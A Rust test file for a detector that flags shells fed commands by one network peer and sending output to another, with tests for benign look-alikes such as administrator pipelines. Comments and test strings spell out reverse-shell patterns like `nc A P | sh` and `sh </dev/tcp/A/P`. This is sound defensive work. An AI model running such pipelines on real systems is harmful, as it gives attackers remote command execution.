//! Shells whose commands come from one peer and whose output goes to another one, and jobs that
//! only resemble them.

use super::*;

const OTHER: (IpAddr, u16) = (IpAddr::V4(Ipv4Addr::new(198, 51, 100, 7)), 514);
const IN: u16 = 40_000;
const OUT: u16 = 40_001;
const FORWARDED: u16 = 40_002;
const LOGIN: u16 = 22;
const CLIENTS: u16 = 5140;
/// Scans of 10 ms in which nothing happens between two commands.
const REST: usize = 40;

/// How a shell gets its input.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Input {
    /// `nc A P | sh`
    Pipe,
    /// `sh </dev/tcp/A/P`
    Itself,
    /// `nc -u A P | sh`
    Datagram,
    /// `nc A P >file & tail -f file | sh`
    File,
}

/// What a shell does for a message.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Act {
    Process,
    Builtin,
    Nothing,
}

struct Job {
    input: Input,
    act: Act,
    line: &'static str,
    flags: u32,
    /// Bytes that were sent to the first peer.
    asked: u64,
    /// Whether the shell has a child all the time, and whether its peer pauses.
    is_busy: bool,
    pauses: bool,
    is_accepted: bool,
    login: Login,
    others: OtherEnd,
    messages: u32,
}

/// What else the program gets that sends the shell's output on.
#[derive(Clone, Copy, Debug, PartialEq)]
enum OtherEnd {
    None,
    /// A client has connected to it.
    Client,
    Pipe,
    Pair,
    /// It has a pipe of its own, and a server of its own.
    Own,
    /// It writes to the log (`/dev/log`).
    Log,
    /// It is the log: it reads what all write to `/dev/log`.
    Server,
}

/// Where a job was started.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Login {
    /// In none.
    None,
    /// `nc A P | sh | nc B P` in a login.
    Typed,
    /// `nc A P | sh` in a login whose server connects to B for its user (`ssh -L`).
    Forwards,
    /// `sh | nc B P` in a login.
    Input,
}

const JOB: Job = Job {
    input: Input::Pipe,
    act: Act::Process,
    line: "sh",
    flags: 0,
    asked: 0,
    is_busy: false,
    pauses: true,
    is_accepted: false,
    login: Login::None,
    others: OtherEnd::None,
    messages: 2,
};

impl Job {
    fn machine(&self) -> Machine {
        let mut machine = Machine::default();
        if self.is_accepted {
            machine.listener(IN);
        }
        let one = match self.input {
            Input::Datagram => machine.datagram(IN, PEER),
            _ => machine.connection(IN, PEER),
        };
        let other = machine.connection(OUT, OTHER);
        let (in_read, in_write) = machine.pipe();
        let (out_read, out_write) = machine.pipe();
        let [into, from] = machine.relay([WRITE, READ], 1_000_000_000);
        let terminal = self.log_in(&mut machine, &other);
        let input = match (self.input, self.login) {
            (Input::Itself, _) => &one,
            (_, Login::Input) => &terminal,
            _ => &in_read,
        };
        let output = if self.login == Login::Forwards { &terminal } else { &out_write };
        match self.input {
            Input::Itself => {}
            _ if self.login == Login::Input => {}
            Input::File => {
                machine.run(20, "nc", "nc A 4444", &[(1, &into), (3, &one)]);
                machine.run(21, "tail", "tail -f file", &[(1, &in_write), (3, &from)]);
            }
            _ => {
                let files = [(0, &terminal), (1, &in_write), (2, &terminal), (3, &one)];
                machine.run(20, "nc", "nc A 4444", &files);
            }
        }
        machine.run(22, "dash", self.line, &[(0, input), (1, output), (2, output)]);
        if self.login != Login::Forwards {
            let further = self.connect_others(&mut machine);
            let mut files = vec![(0, &out_read), (1, &terminal), (2, &terminal), (3, &other)];
            files.extend((4..).zip(&further));
            machine.run(23, "nc", "nc B 514", &files);
        }
        machine.world.process(22).flags = self.flags;
        if self.is_busy {
            machine.run(30, "sleep", "sleep 999", &[(1, &out_write)]);
            machine.world.process(30).parent = 22;
        }
        machine.counted.insert(IN, (self.asked, 0));
        machine.counted.insert(OUT, (0, 0));
        machine
    }

    /// The terminal of a login, if there is one. Its server has a connection for its user.
    fn log_in(&self, machine: &mut Machine, other: &FakeFile) -> FakeFile {
        if self.login == Login::None {
            return null();
        }
        machine.listener(LOGIN);
        let login = machine.connection(LOGIN, PEER);
        let own = machine.connection(FORWARDED, OTHER);
        let (master, terminal) = machine.terminal();
        let forwarded = if self.login == Login::Forwards { other } else { &own };
        machine.run(10, "sshd", "sshd", &[(4, &login), (9, &master), (10, forwarded)]);
        terminal
    }

    /// What others send to the program that sends the shell's output on.
    fn connect_others(&self, machine: &mut Machine) -> Vec<FakeFile> {
        let (read, write) = machine.pipe();
        let (one, far) = machine.pair();
        match self.others {
            OtherEnd::None => vec![],
            OtherEnd::Client => {
                machine.listener(CLIENTS);
                vec![machine.connection(CLIENTS, PEER)]
            }
            OtherEnd::Pipe => {
                machine.run(24, "job", "job", &[(1, &write)]);
                vec![read]
            }
            OtherEnd::Pair => {
                machine.run(24, "job", "job", &[(1, &far)]);
                vec![one]
            }
            OtherEnd::Log => {
                let pair = machine.pairs.pop().unwrap();
                machine.senders.push(pair);
                machine.run(2, "journald", "journald", &[(5, &far)]);
                vec![one]
            }
            OtherEnd::Server => {
                let pair = machine.pairs.pop().unwrap();
                machine.senders.push((pair.1, pair.0));
                machine.run(24, "job", "job", &[(1, &far)]);
                vec![one]
            }
            OtherEnd::Own => vec![read, write, machine.connection(40_003, OTHER)],
        }
    }

    /// Returns what is found while the peer sends its messages.
    fn found(&self) -> Vec<String> {
        let mut machine = self.machine();
        let mut watch = Watch::new();
        let mut found = watch.settle(&machine);
        for message in 0..self.messages {
            let rest = if self.pauses { REST } else { 4 };
            (0..rest).for_each(|_| found.extend(watch.scan(&machine)));
            let port = if self.login == Login::Input { LOGIN } else { IN };
            machine.counted.entry(port).or_default().1 += 3;
            found.extend(watch.scan(&machine));
            let pid = 100 + message;
            if self.act == Act::Process {
                machine.run(pid, "id", "id", &[(0, &null()), (1, &null())]);
                machine.world.process(pid).parent = 22;
            }
            found.extend(watch.scan(&machine));
            machine.world.remove(pid);
            if self.act != Act::Nothing {
                machine.counted.get_mut(&OUT).unwrap().0 += 9;
            }
            found.extend(watch.scan(&machine));
        }
        found
    }
}

const PIPES: &str = "Outbound 40000: 20,23,22 in 20>22 out 22>23 to 40001";

#[test]
fn a_shell_between_two_peers_is_reported() {
    assert_eq!(JOB.found(), [PIPES]);
    assert_eq!(Job { act: Act::Builtin, ..JOB }.found(), [PIPES]);
    let itself = "Outbound 40000: 23,22 in 22 out 22>23 to 40001";
    for act in [Act::Process, Act::Builtin] {
        assert_eq!(Job { input: Input::Itself, act, ..JOB }.found(), [itself]);
    }
    // What was asked for, or comes over a connection that was accepted, needs a turn more.
    let asked = Job { asked: 300, ..JOB };
    assert_eq!(asked.found(), [""; 0]);
    assert_eq!(Job { messages: 3, ..asked }.found(), [PIPES]);
    let accepted = Job { is_accepted: true, ..JOB };
    assert_eq!(accepted.found(), [""; 0]);
    let expected = "Accepted 40000: 20,23,22 in 20>22 out 22>23 to 40001";
    assert_eq!(Job { messages: 3, ..accepted }.found(), [expected]);
}

#[test]
fn a_login_exempts_only_its_own_input() {
    let typed = Job { login: Login::Typed, ..JOB };
    assert_eq!(typed.found(), [PIPES]);
    assert_eq!(Job { act: Act::Builtin, ..typed }.found(), [PIPES]);
    assert_eq!(Job { asked: 300, messages: 3, ..typed }.found(), [PIPES]);
    // `nc A P | sh`
    let terminal = "Outbound 40000: 20,22 in 20>22 out 22";
    assert_eq!(Job { login: Login::Forwards, ..JOB }.found(), [terminal]);
}

#[test]
fn pipelines_that_administrators_type_raise_no_alert() {
    let typed = Job { login: Login::Forwards, asked: 300, messages: 12, ..JOB };
    for act in [Act::Process, Act::Builtin] {
        assert_eq!(Job { act, ..typed }.found(), [""; 0], "curl | sh, ssh host cmd | sh");
        let accepted = Job { asked: 0, is_accepted: true, act, ..typed };
        assert_eq!(accepted.found(), [""; 0], "nc -l | sh");
        let input = Job { login: Login::Input, messages: 12, act, ..JOB };
        assert_eq!(input.found(), [""; 0], "sh | nc B 514");
        let piped = Job { login: Login::Typed, pauses: false, ..typed };
        assert_eq!(Job { act, ..piped }.found(), [""; 0], "curl | sh | nc collector");
    }
}

#[test]
fn commands_by_another_protocol_are_reported() {
    let datagrams = Job { input: Input::Datagram, ..JOB };
    assert_eq!(datagrams.found(), [""; 0]);
    let expected = ["Unknown 40000: 20,23,22 in 20>22 out 22>23 to 40001"];
    for act in [Act::Process, Act::Builtin] {
        assert_eq!(Job { messages: 3, act, ..datagrams }.found(), expected);
    }
}

#[test]
fn commands_by_a_file_that_a_peer_fills_are_reported() {
    let file = Job { input: Input::File, ..JOB };
    assert_eq!(file.found(), [""; 0]);
    let expected = ["Outbound 40000: 20,21,23,22 in 20>21>22 out 22>23 to 40001"];
    assert_eq!(Job { messages: 3, ..file }.found(), expected);
}

#[test]
fn jobs_whose_log_goes_to_a_collector_raise_no_alert() {
    // `curl … | sh | nc collector`: the script comes as fast as it is read.
    for input in [Input::Pipe, Input::Datagram, Input::File] {
        let job = Job { input, asked: 300, messages: 12, ..JOB };
        assert_eq!(Job { pauses: false, ..job }.found(), [""; 0], "{input:?}: in pieces");
        assert_eq!(Job { is_busy: true, ..job }.found(), [""; 0], "{input:?}: it runs a program");
        let line = "sh backup.sh";
        assert_eq!(Job { line, ..job }.found(), [""; 0], "{input:?}: it runs a script");
        assert_eq!(Job { line: "sh -c x", ..job }.found(), [""; 0], "{input:?}: a command");
        assert_eq!(Job { flags: FORKED, ..job }.found(), [""; 0], "{input:?}: while read");
        assert_eq!(Job { act: Act::Nothing, ..job }.found(), [""; 0], "{input:?}: it waits");
    }
    assert_eq!(Job { messages: 1, ..JOB }.found(), [""; 0], "nc A P | sh: one script");
}

#[test]
fn what_a_program_sends_for_others_is_no_output_of_the_shell() {
    for others in [OtherEnd::Client, OtherEnd::Pipe, OtherEnd::Pair, OtherEnd::Server] {
        let job = Job { others, ..JOB };
        let sent = Job { act: Act::Builtin, messages: 12, ..job };
        assert_eq!(sent.found(), [""; 0], "{others:?}");
        assert_eq!(job.found(), [PIPES], "{others:?}: it starts processes");
    }
    for others in [OtherEnd::Own, OtherEnd::Log] {
        let own = Job { act: Act::Builtin, others, ..JOB };
        assert_eq!(own.found(), [PIPES], "{others:?}");
    }
}

#[test]
fn what_a_program_sends_for_others_ends_no_row() {
    let job = Job { others: OtherEnd::Client, asked: 300, ..JOB };
    let mut machine = job.machine();
    let mut watch = Watch::new();
    let mut found = watch.settle(&machine);
    for message in 0..3 {
        for _ in 0..REST {
            machine.counted.get_mut(&OUT).unwrap().0 += 9;
            found.extend(watch.scan(&machine));
        }
        machine.counted.get_mut(&IN).unwrap().1 += 3;
        found.extend(watch.scan(&machine));
        machine.run(100 + message, "id", "id", &[(0, &null()), (1, &null())]);
        machine.world.process(100 + message).parent = 22;
        found.extend(watch.scan(&machine));
        machine.world.remove(100 + message);
        found.extend(watch.scan(&machine));
    }
    assert_eq!(found, [PIPES]);
}

/// A scan that leaves the descriptors of both relays, which rest.
fn scan_lightly(watch: &mut Watch, machine: &mut Machine) -> Vec<String> {
    let kept = [20, 23].map(|pid| {
        let files = &mut machine.world.process(pid).files;
        (pid, core::mem::replace(files, files.iter().filter(|it| it.0 < 3).cloned().collect()))
    });
    let found = watch.scan_with(machine, |snapshot| {
        (snapshot.is_light, snapshot.left.tables, snapshot.left.of_resting) = (true, 2, 2);
    });
    for (pid, files) in kept {
        machine.world.process(pid).files = files;
    }
    watch.snapshot.is_light = false;
    found
}

/// The findings of light scans, and whether something waits for a whole one.
fn found_lightly(job: &Job, messages: u32) -> (Vec<String>, bool) {
    let mut machine = job.machine();
    let mut watch = Watch::new();
    let mut found = watch.settle(&machine);
    let mut waits = false;
    for message in 0..messages {
        assert!(!watch.shells.waits_for_next());
        (0..REST).for_each(|_| found.extend(scan_lightly(&mut watch, &mut machine)));
        machine.counted.get_mut(&IN).unwrap().1 += 3;
        found.extend(scan_lightly(&mut watch, &mut machine));
        if job.act == Act::Process {
            machine.run(100 + message, "id", "id", &[(0, &null()), (1, &null())]);
            machine.world.process(100 + message).parent = 22;
        } else if job.act == Act::Builtin {
            machine.counted.get_mut(&OUT).unwrap().0 += 9;
        }
        found.extend(scan_lightly(&mut watch, &mut machine));
        waits = watch.shells.waits_for_next();
        machine.world.remove(100 + message);
        if message + 1 == messages {
            found.extend(watch.scan(&machine));
        } else {
            found.extend(scan_lightly(&mut watch, &mut machine));
        }
    }
    (found, waits)
}

#[test]
fn light_scans_that_leave_the_relays_count_turns() {
    for act in [Act::Process, Act::Builtin] {
        let job = Job { act, ..JOB };
        assert_eq!(found_lightly(&job, 1), (vec![], false));
        assert_eq!(found_lightly(&job, 2), (vec![PIPES.into()], true), "a whole scan reports it");
    }
    assert_eq!(found_lightly(&Job { act: Act::Nothing, ..JOB }, 12), (vec![], false));
}

/// Most scans of a machine with much work leave something.
#[test]
fn pairs_of_shells_that_have_ended_make_room() {
    let mut machine = JOB.machine();
    let mut watch = Watch::new();
    watch.settle(&machine);
    let count = |watch: &Watch| watch.shells.two_peers.watched();
    (0..200).for_each(|_| drop(scan_lightly(&mut watch, &mut machine)));
    assert_eq!(count(&watch), 1);
    machine.world.remove(22);
    (0..200).for_each(|_| drop(scan_lightly(&mut watch, &mut machine)));
    assert_eq!(count(&watch), 0);
}

#[test]
fn a_shell_that_does_something_by_itself_raises_no_alert() {
    let job = Job { asked: 300, ..JOB };
    let mut machine = job.machine();
    let mut watch = Watch::new();
    assert_eq!(watch.settle(&machine), [""; 0]);
    for round in 0..12_u32 {
        let mut found = Vec::new();
        (0..REST).for_each(|_| found.extend(watch.scan(&machine)));
        // A status now and then, and a message between two of them.
        machine.counted.get_mut(&OUT).unwrap().0 += 9;
        found.extend(watch.scan(&machine));
        (0..REST).for_each(|_| found.extend(watch.scan(&machine)));
        machine.counted.get_mut(&IN).unwrap().1 += u64::from(round % 2);
        machine.counted.get_mut(&OUT).unwrap().0 += 9;
        found.extend(watch.scan(&machine));
        assert_eq!(found, [""; 0]);
    }
}
